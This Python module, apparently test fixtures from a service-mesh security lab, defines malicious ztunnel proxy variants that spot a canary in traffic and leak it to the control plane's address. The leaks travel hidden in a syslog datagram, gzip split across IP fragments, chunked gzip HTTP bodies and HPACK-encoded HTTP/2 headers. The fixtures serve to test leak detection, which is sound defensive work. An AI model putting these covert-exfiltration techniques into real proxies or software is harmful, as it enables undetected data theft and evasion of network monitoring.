"""Ztunnels that let a call's canary out in a form that is hard to see, to a collector of logs that no pod has anything
to do with: all traffic of the mesh itself is as it should be.

The collector's address is the control plane's. Nobody has to listen there: what matters is what passes the links.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
from collections.abc import Callable, Mapping
from typing import Any, ClassVar

from hpack import Encoder

from meshlab.plan.network import CONTROL_PLANE4
from meshlab.proofs.canary import WHOLE
from meshlab.proxykit.splice import Half
from meshlab.ztunnel.main import Parts, run
from meshlab.ztunnel.outbound import Outbound

Program = Callable[[Mapping[str, Any], Mapping[str, int]], None]
Export = Callable[[bytes], None]

_SYSLOG = (str(CONTROL_PLANE4), 514)
_XDS = (str(CONTROL_PLANE4), 15012)
_MTU_BYTES = 1500


# --- what an exporter of logs does, whatever it exports --------------------------------------------------------------


def in_a_datagram(text: bytes) -> None:
    """As syslog does."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
        sock.sendto(text, _SYSLOG)


def in_fragments(text: bytes) -> None:
    """Compressed, in a datagram of two IP fragments; the stream begins in one and ends in the other."""
    in_a_datagram(b" " * (_MTU_BYTES - 20 - 8 - 24) + gzip.compress(text))


def in_chunked_gzip(text: bytes) -> None:
    """Compressed, in the body of a request that is sent in chunks of seven bytes."""
    body = gzip.compress(text)
    chunks = (body[at : at + 7] for at in range(0, len(body), 7))
    head = b"POST /logs HTTP/1.1\r\nHost: logs\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
    _say(head + b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in chunks) + b"0\r\n\r\n")


def in_h2_headers(text: bytes) -> None:
    """As a header of an HTTP/2 request without TLS, in HPACK's Huffman code."""
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"logs"), (b":path", b"/"), (b"x-log", text)]
    block = Encoder().encode(fields)
    headers = len(block).to_bytes(3, "big") + b"\x01\x05" + (1).to_bytes(4, "big") + block
    _say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5) + headers)


def _say(request: bytes) -> None:
    with contextlib.suppress(OSError), socket.create_connection(_XDS, timeout=1) as sock:
        sock.sendall(request)


# --- who does it -----------------------------------------------------------------------------------------------------


class _Exported(Half):
    """A connection of which something is exported."""

    export: ClassVar[Export]

    def data_received(self, data: bytes) -> None:
        super().data_received(data)
        if found := WHOLE.search(data):
            type(self).export(found[0])


def exporting(how: Export) -> Program:
    """A ztunnel that exports each canary that an app sends or gets."""
    half = type("_Exported", (_Exported,), {"export": staticmethod(how)})
    outbound = type("_Exporting", (Outbound,), {"half_class": half})

    def main(config: Mapping[str, Any], fds: Mapping[str, int]) -> None:
        run(config, fds, Parts(outbound=outbound))

    return main


def _with_its_end_cut_off(canary: bytes) -> None:
    in_a_datagram(b'{"request": "GET /hello", "x-meshlab-canary": "' + canary[: canary.rindex(b"-") + 1 + 8])


sends_canary_to_a_collector = exporting(_with_its_end_cut_off)
leaks_in_fragments = exporting(in_fragments)
leaks_in_chunked_gzip = exporting(in_chunked_gzip)
leaks_in_h2_headers = exporting(in_h2_headers)
